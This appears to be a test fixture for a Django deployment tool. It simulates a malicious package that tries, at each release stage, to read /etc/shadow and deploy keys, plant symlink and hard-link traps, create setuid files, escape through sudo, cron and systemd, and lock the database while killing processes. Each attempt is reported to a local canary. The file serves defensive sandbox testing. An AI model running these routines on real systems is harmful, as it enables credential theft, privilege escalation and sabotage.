"""What a malicious package tries, at every stage of a release; the droplet's canary hears of it.

Each attempt ends with an error, or says what it has reached. The canary learns from the kernel who
speaks, so that nobody has to be believed.
"""

import atexit
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

APP, ROOT = "psychology_clinic", Path("/var/www/clink-backend")
MARK = "canary-of-the-tests"  # in all that nobody may read
SECRETS = [
    "/etc/shadow",
    "/root/.ssh/authorized_keys",
    "/etc/other/environment",
    "/var/cache/other-build/uv/secret",
    "/var/lib/django_stack/other/source.tar",
    "/var/www/other/releases/0/settings.py",
    "/var/www/other/shared/media/private",
    f"/run/django_stack/{APP}/lock",
]
BUILDER_SECRETS = [f"/etc/{APP}/environment", f"/etc/{APP}/dotenv", f"/etc/{APP}/deploy_key"]
APPLICATION_SECRETS = [f"/var/cache/{APP}-build/uv/CACHEDIR.TAG"]
PLACES = [  # all that root walks, reads, executes or writes
    ROOT, ROOT / "releases", ROOT / "current", ROOT / "gunicorn.sock", ROOT / "staticfiles",
    ROOT / "shared", ROOT / "shared/media", f"/etc/{APP}", f"/etc/{APP}/environment",
    f"/run/django_stack/{APP}", f"/var/lib/django_stack/{APP}/source.tar",
    f"/etc/ansible/facts.d/{APP}.fact", f"/usr/local/bin/{APP}-run", "/usr/local/sbin",
    "/usr/local/bin", "/etc/cron.d", "/etc/systemd/system", "/etc/passwd", "/var/spool/cron",
    "/var/lib/systemd/linger", "/opt/uv", f"/var/cache/{APP}-build",
]  # fmt: skip


def tell(stage: str, attempt: str, reached: object = "") -> None:
    """Tell the canary; `reached` is what should not have been possible."""
    message = {"stage": stage, "attempt": attempt, "reached": str(reached)[:200]}
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as canary:
        try:
            canary.sendto(json.dumps(message).encode(), "\0canary")
        except OSError:
            pass


def read(path: str) -> str:
    """Return the content of a file that is a secret."""
    return Path(path).read_text(errors="replace")[:100]


def replace(place: Path | str) -> list[str]:
    """Put a link in the place of what root uses, or change it."""
    path, done = Path(place), []
    aside = Path(f"{path}.attacked")
    attempts: dict[str, Callable[[], object]] = {
        "created beside": lambda: aside.symlink_to("/etc"),
        "renamed": lambda: path.rename(aside),
        "written": lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NOFOLLOW)),
        "made public": lambda: os.chmod(path, 0o777),
        "removed": path.unlink,
    }
    if path != ROOT / "shared/media":  # which is the application's
        attempts["filled"] = lambda: (path / "attacked").symlink_to("/etc")
    else:
        del attempts["made public"]
    for name, attempt in attempts.items():
        try:
            attempt()
            done.append(f"{path} was {name}")
        except OSError:
            pass
    return done


def hard_link(directory: Path) -> list[str]:
    """Link what others own into a directory of one's own."""
    done = []
    for path in ["/etc/shadow", "/etc/passwd", f"/etc/{APP}/environment", *SECRETS]:
        try:
            os.link(path, Path(directory, "hard-link"))
            done.append(path)
        except OSError:
            pass
    return done


def escape(arguments: list[str]) -> str:
    """Ask a program for processes outside of the sandbox, or for another user."""
    done = subprocess.run(
        arguments, capture_output=True, text=True, timeout=10, input="* * * * * id\n"
    )
    return f"{arguments}: {done.stdout}" if done.returncode == 0 else ""


def bus() -> str:
    """Speak to the system bus."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("/run/dbus/system_bus_socket")
    return "the system bus"


def setuid(directory: Path) -> Path:
    """Make a program that runs as its owner."""
    path = Path(directory, "setuid")
    path.write_bytes(b"")
    os.chmod(path, 0o6755)
    return path


def stay(stage: str) -> None:
    """Leave processes behind: in a session of their own, deaf to signals."""
    code = (
        "import signal, time\n"
        "for n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\n"
        "time.sleep(999)"
    )
    null = subprocess.DEVNULL  # or whoever reads what the build prints would wait for the end
    command = [sys.executable, "-c", code, f"stays-{stage}"]
    subprocess.Popen(command, start_new_session=True, stdin=null, stdout=null, stderr=null)


def attack(stage: str) -> None:
    """Try everything, and tell the canary."""
    builder = stage == "build"
    own = Path.cwd() if builder else ROOT / "shared/media"
    attempts: dict[str, tuple[Any, ...]] = {
        **{f"read {path}": (read, path) for path in SECRETS},
        **{
            f"read {path}": (read, path)
            for path in (BUILDER_SECRETS if builder else APPLICATION_SECRETS)
        },
        **{f"replace {path}": (replace, path) for path in PLACES},
        "hard link": (hard_link, own),
        "setuid": (setuid, own),
        "bus": (bus,),
        "linger": (escape, ["/usr/bin/loginctl", "enable-linger"]),
        "transient unit": (escape, ["/usr/bin/systemd-run", "--wait", "/usr/bin/id"]),
        "namespace": (escape, ["/usr/bin/unshare", "--user", "--map-root-user", "/usr/bin/id"]),
        "cron": (escape, ["/usr/bin/crontab", "-"]),
        "sudo": (escape, ["/usr/bin/sudo", "-n", "/usr/bin/id"]),
    }
    for name, (attempt, *arguments) in attempts.items():
        try:
            reached = attempt(*arguments)
        except Exception:  # noqa: BLE001 - whatever stops it is right
            reached = ""
        tell(stage, name, reached or "")
    if stage not in ("web", "import"):
        stay(stage)
    tell(stage, "end")


def spoil(release: Path, sabotage: str) -> None:
    """Leave traps in a release that is being built."""
    (release / ".complete").symlink_to("/etc/cron.d/attacked")
    os.mkfifo(release / "pipe")
    for path in (release / ".venv").glob("lib/*/site-packages/django/contrib/humanize/apps.py"):
        if path.stat().st_uid == 0:  # it is the live release's, too; the sample does not import it
            path.rename(release / "moved.py")
            tell("build", "move")
    if sabotage == "packages":
        (release / ".venv").rename(release / "venv")
        (release / ".venv").symlink_to("venv")  # where uv still finds it
    elif sabotage == "shared":
        (release / ".shared").symlink_to("/etc/skel")
    elif sabotage == "depth":
        start = Path.cwd()
        for _ in range(400):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(start)


def started() -> None:
    """Tell of every Python that starts with these packages."""
    tell("python", "start")


def imported() -> None:
    """Attack where the settings are imported for a step of a deploy; leave links for nginx."""
    steps = sys.argv[-1].rpartition("take(")[2]  # of the text that `manage.py shell -c` runs
    if "static" not in steps:
        return
    release = Path(os.environ["APP_RELEASE"])

    def links() -> None:
        for directory in (release / ".staticfiles", ROOT / "shared/media"):
            for name, path in {
                "leak.txt": "/var/www/other/shared/media/private",
                "directory": "/var/www/other/shared/media",
                "passwd.txt": "/etc/passwd",
            }.items():
                if not os.path.lexists(directory / name):
                    (directory / name).symlink_to(path)
        for trap in (release / ".static-own",):
            trap.unlink(missing_ok=True)
            trap.write_bytes(b"/etc/shadow\n../../../../etc/passwd\nleak.txt\n\xff\0\n")
        try:
            (release / "moved.py").write_text("the live release is another's")
            os.chmod(release / "moved.py", 0o777)
        except OSError:
            pass

    atexit.register(links)
    attack("import")


def hold() -> None:
    """Do all that a web process can to hinder a rollback: locks, connections, signals."""
    from django.db import connection

    url = connection.get_connection_params()
    if os.fork():
        return
    os.setsid()
    import psycopg

    url = {key: url[key] for key in ("host", "port", "user", "password", "dbname")}
    first = psycopg.connect(**url)
    first.execute("LOCK TABLE django_migrations, auth_user")
    first.execute("SELECT pg_advisory_xact_lock(%s)", [0x646A616E676F])
    held = [first]

    def connect() -> None:
        while True:
            try:
                held.append(psycopg.connect(**url))
            except psycopg.Error:
                time.sleep(0.05)

    threading.Thread(target=connect, daemon=True).start()
    own = {int(name) for name in os.listdir("/proc") if name.isdecimal()}  # of this service alone
    for each in own - {os.getpid(), os.getppid()}:
        try:
            os.kill(each, signal.SIGSTOP)
        except OSError:
            pass
    while True:
        newest = int(Path("/proc/loadavg").read_text().split()[-1])
        for each in range(max(newest - 400, 2), newest + 20):
            if each not in own and each != os.getpid():
                try:
                    os.kill(each, signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.02)


def view(request: Any, what: str) -> Any:  # noqa: ANN401 - the tools have no Django
    """Answer a visitor who knows the path."""
    from django.http import HttpResponse

    hold() if what == "hold" else attack("web")
    return HttpResponse("done")


if __name__ == "__main__":
    if sys.argv[1] == "program":
        tell("program", sys.argv[2])
    else:
        attack(sys.argv[1])
